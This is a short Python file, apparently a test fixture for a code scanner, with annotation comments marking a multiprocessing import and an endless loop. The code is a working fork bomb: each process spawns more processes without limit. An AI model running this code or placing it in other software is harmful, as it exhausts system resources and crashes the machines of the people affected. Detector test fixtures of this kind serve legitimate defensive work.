from multiprocessing import Process as P  #! python.import.multiprocessing


def spawn():
    while True:  #! python.endless-loop
        P(target=spawn).start()


if __name__ == "__main__":
    spawn()
